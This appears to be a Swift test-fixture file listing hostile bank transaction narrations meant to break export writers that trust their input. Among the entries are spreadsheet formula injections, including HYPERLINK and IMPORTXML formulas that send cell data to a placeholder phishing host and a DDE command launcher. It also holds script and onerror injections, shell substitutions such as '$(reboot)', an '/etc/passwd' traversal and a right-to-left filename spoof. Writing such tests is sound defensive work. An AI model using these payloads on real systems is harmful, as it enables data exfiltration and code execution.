/// Narrations that break writers which trust their input.
///
/// Every full month of the hostile account has each of them at least once.
enum HostileTexts {
    static let all: [String] =
        formulas + markup + separators + controls + directions + scripts + lengths

    /// Spreadsheets run these as formulas.
    private static let formulas = [
        "=HYPERLINK(\"http://phish.example.com/?a=\"&A1,\"Refund\")",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "+2348039990417 AIRTIME",
        "-5000 REVERSAL",
        "@SUM(A1:A9)",
        "\t=2+5",
        "\r=IMPORTXML(\"http://phish.example.com\",\"//a\")",
        "'=1+1",
        "\u{FF1D}SUM(A1)",
    ]

    private static let markup = [
        "<script>alert('transfer')</script>",
        "TRF TO A&B STORES &amp; CO &#x41;",
        "</STMTTRN></BANKTRANLIST>",
        "]]><!-- OKORO -->",
        "\"><img src=x onerror=alert(1)>",
        "{{person}} ${PATH} $(reboot) `id` %s%n",
        "../../etc/passwd",
        "C:\\AUX\\NUL:|*?",
    ]

    private static let separators = [
        "OKORO, ADE AND SONS, LAGOS",
        "PAYMENT \"URGENT\" TO \"BEN\"",
        "\"",
        "\"\"\",\"\"",
        "LINE ONE\nLINE TWO\r\nLINE THREE\rLINE FOUR",
        "TAB\tSEPARATED\tTEXT; SEMICOLON | PIPE",
        "LINE\u{2028}SEPARATOR\u{2029}PARAGRAPH\u{85}NEXT",
    ]

    private static let controls = [
        "BELL\u{07}BACK\u{08}ESC\u{1B}[31mRED\u{1B}[0m",
        "C0 \u{01}\u{02}\u{03}\u{04}\u{05}\u{06}\u{0B}\u{0C}\u{0E}\u{0F}\u{10}\u{1F} END",
        "DELETE\u{7F}C1\u{80}\u{9F}END",
        "NONCHARACTERS \(noncharacters) END",
        "ZERO\u{200B}WIDTH\u{200D}JOINER\u{FEFF}BOM SOFT\u{AD}HYPHEN",
    ]

    /// Written as numbers, because the language refuses them in a literal.
    private static let noncharacters = String(
        String.UnicodeScalarView([0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE].compactMap { Unicode.Scalar($0) }))

    /// Marks and overrides that turn the direction of the text round.
    private static let directions = [
        "INVOICE \u{202E}fdp.exe",
        "\u{200F}RLM \u{200E}LRM \u{2067}ISOLATE\u{2069} \u{202B}EMBED\u{202C}",
        "\u{5E9}\u{5DC}\u{5D5}\u{5DD} TRANSFER \u{645}\u{631}\u{62D}\u{628}\u{627}",
    ]

    /// Characters that narrow encodings lack.
    private static let scripts = [
        "₦5,000 OR ₵50 OR €4 CAFÉ 漢字 😀",
        "ÀKÀNDÉ ỌLÁ Ẹ̀KỌ́ FÚN ỌJÀ",
        "e\u{301} DECOMPOSED AND é COMPOSED",
        "👩🏾‍🌾👨‍👩‍👧‍👦🇳🇬 FAMILY",
        "Z\u{351}\u{36B}\u{343}A\u{368}\u{367}\u{321}LGO \u{1D400} NBSP\u{A0}NARROW\u{202F}SPACE",
    ]

    private static let lengths = [
        "",
        " ",
        "   LEADING AND TRAILING   ",
        "DOUBLE  SPACES   INSIDE",
        repeated("NIP TRF TO A VERY LONG BENEFICIARY NAME ", to: 200),
        repeated("UNBROKENNARRATION", to: 200),
        repeated("漢", to: 200),
        "00012345678901234567890",
        "1E5",
        "2026-11-03",
        "NULL",
        "TRUE",
    ]

    private static func repeated(_ text: String, to length: Int) -> String {
        var result = ""
        while result.count < length { result += text }
        return String(result.prefix(length))
    }
}
